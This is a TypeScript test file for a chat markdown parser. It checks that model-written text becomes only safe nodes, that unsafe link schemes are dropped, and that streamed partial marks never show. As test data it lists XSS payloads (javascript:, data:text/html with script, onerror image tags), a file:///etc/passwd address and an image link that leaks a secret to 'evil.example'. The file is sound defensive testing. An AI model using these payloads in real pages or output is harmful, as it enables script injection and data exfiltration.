/** What a model writes becomes nodes of a few kinds, and nothing else. */
import { describe, expect, test } from "vitest";
import { bindMarks } from "../src/chat/bound-marks.ts";
import { type Inline, safeHref } from "../src/chat/inlines.ts";
import { type Block, parseMarkdown } from "../src/chat/markdown.ts";

const whole = { partial: false, citations: new Set([1, 2]) };
const open = { partial: true, citations: new Set([1, 2]) };

function inlines(source: string, options = whole): readonly Inline[] {
  const [block] = parseMarkdown(source, options);
  if (block?.kind !== "paragraph") throw new Error(`no paragraph: ${JSON.stringify(block)}`);
  return block.inlines;
}

/** Every text and every address in a tree, whatever holds them. */
function leaves(value: unknown, found: string[] = []): string[] {
  if (Array.isArray(value)) for (const part of value) leaves(part, found);
  else if (typeof value === "object" && value !== null) {
    for (const [key, part] of Object.entries(value)) {
      if ((key === "text" || key === "href") && typeof part === "string") found.push(part);
      else leaves(part, found);
    }
  }
  return found;
}

describe("addresses", () => {
  test.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " \u0001javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://example.com/1",
    "//example.com/x",
    "/relative",
    "https://name:secret@example.com/",
    "",
  ])("%j is not followed", (address) => {
    expect(safeHref(address)).toBeNull();
  });

  test.each(["https://example.com/a?b=c#d", "http://example.com/", "mailto:a@example.com", "tel:+4912345"])(
    "%s is followed",
    (address) => {
      expect(safeHref(address)).toBe(address);
    },
  );

  test("an address longer than any honest one is not followed", () => {
    expect(safeHref(`https://example.com/${"a".repeat(3_000)}`)).toBeNull();
  });

  test("a link that is not followed leaves its words", () => {
    expect(inlines("See [this](javascript:alert(1)) now")).toEqual([
      { kind: "text", text: "See " },
      { kind: "text", text: "this" },
      { kind: "text", text: " now" },
    ]);
  });

  test("a bare address becomes a link without the full stop behind it", () => {
    expect(inlines("Go to https://example.com/a.")).toContainEqual({
      kind: "link",
      href: "https://example.com/a",
      inlines: [{ kind: "text", text: "https://example.com/a" }],
    });
  });
});

test.each(["<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<b>bold</b>", "&lt;b&gt;", "1 < 2 and 3 > 2"])(
  "%s is text",
  (source) => {
    expect(leaves(parseMarkdown(source, whole)).join("")).toBe(source);
  },
);

test("an image is its description and never an address", () => {
  expect(leaves(parseMarkdown("![a cat](https://evil.example/?q=secret)", whole))).toEqual(["a cat"]);
});

test("a marker of acting that slipped through is not shown, whole or cut", () => {
  expect(leaves(parseMarkdown("Yes! <act happy 0.7 nod/>Of course.", whole)).join("")).toBe("Yes! Of course.");
  for (const cut of ["<", "<a", "<act", "<act happy 0.", "<act happy 0.7 nod/"]) {
    expect(
      leaves(parseMarkdown(`Yes! ${cut}`, open))
        .join("")
        .trim(),
    ).toBe("Yes!");
  }
});

describe("marks", () => {
  test("bold, italic, struck and code", () => {
    expect(inlines("**a** *b* ~~c~~ `d*e`")).toEqual([
      { kind: "strong", inlines: [{ kind: "text", text: "a" }] },
      { kind: "text", text: " " },
      { kind: "emphasis", inlines: [{ kind: "text", text: "b" }] },
      { kind: "text", text: " " },
      { kind: "strike", inlines: [{ kind: "text", text: "c" }] },
      { kind: "text", text: " " },
      { kind: "code", text: "d*e" },
    ]);
  });

  test.each(["snake_case_name", "2 * 3 * 4", "a ** b", "5*", "\\*not\\*"])("%s has none", (source) => {
    expect(inlines(source).every((inline) => inline.kind === "text")).toBe(true);
  });

  test("a citation is a mark only when its source was given", () => {
    expect(inlines("So it is [1], not [7].")).toEqual([
      { kind: "text", text: "So it is" },
      { kind: "citation", number: 1 },
      { kind: "text", text: ", not [7]." },
    ]);
  });
});

test("marks stay with their word and take the full stop along", () => {
  expect(bindMarks(inlines("Free for children [1][2]. Next [1]"))).toEqual([
    { kind: "text", text: "Free for " },
    {
      kind: "bound",
      inlines: [
        { kind: "text", text: "children" },
        { kind: "citation", number: 1 },
        { kind: "citation", number: 2 },
        { kind: "text", text: "." },
      ],
    },
    { kind: "text", text: " " },
    {
      kind: "bound",
      inlines: [
        { kind: "text", text: "Next" },
        { kind: "citation", number: 1 },
      ],
    },
  ]);
});

describe("an answer that is still being revealed", () => {
  const answer = "We are **open** from *ten* to `six` [1], see [the page](https://example.com/tickets) for more.";

  test("never shows half of a mark", () => {
    const plain = "We are open from ten to six, see the page for more.";
    for (let end = 1; end < answer.length; end += 1) {
      const shown = leaves(parseMarkdown(answer.slice(0, end), open))
        .filter((text) => !text.startsWith("https:"))
        .join("");
      expect(plain.startsWith(shown.trimEnd()) || plain.startsWith(shown)).toBe(true);
    }
  });

  test("is the same as the whole when all of it is there", () => {
    expect(parseMarkdown(answer, open)).toEqual(parseMarkdown(answer, whole));
  });
});

test("a table shows no bars before it is known to be one", () => {
  const table = "Prices:\n\n| Ticket | Price |\n| --- | --- |\n| Adult | 14 |\n| Child | 0 |";
  for (let end = 9; end <= table.length; end += 1) {
    const blocks = parseMarkdown(table.slice(0, end), open);
    const paragraphs = blocks.filter((block) => block.kind === "paragraph");
    expect(leaves(paragraphs).join("")).toBe("Prices:");
  }
  expect(parseMarkdown(table, open)).toEqual(parseMarkdown(table, whole));
});

describe("blocks", () => {
  function kinds(source: string): string[] {
    return parseMarkdown(source, whole).map((block) => block.kind);
  }

  test("paragraphs, headings, lists, quotes, code, tables and rules", () => {
    const source =
      "# Title\n\nText\n\n- a\n- b\n\n> said\n\n```js\nlet a = 1;\n```\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n---\n\nEnd";
    expect(kinds(source)).toEqual(["heading", "paragraph", "list", "quote", "code", "table", "rule", "paragraph"]);
  });

  test("a list keeps its start and its inner list", () => {
    const [list] = parseMarkdown("3. three\n4. four\n   - inner\n", whole) as [Extract<Block, { kind: "list" }>];
    expect([list.ordered, list.start, list.items.length]).toEqual([true, 3, 2]);
    expect(list.items[1]?.map((block) => block.kind)).toEqual(["paragraph", "list"]);
  });

  test("code keeps its marks as they are, closed or not", () => {
    expect(parseMarkdown("```\n**a** [1]\n", open)).toEqual([{ kind: "code", language: "", text: "**a** [1]\n" }]);
  });
});

test("a hostile answer is parsed in no time", () => {
  const began = performance.now();

  for (const piece of ["*a ", "[", "![", "> ", "`", "_a_", "- ", "[a](", "| ", "<act "])
    parseMarkdown(piece.repeat(1_500), whole);

  expect(performance.now() - began).toBeLessThan(2_000);
});
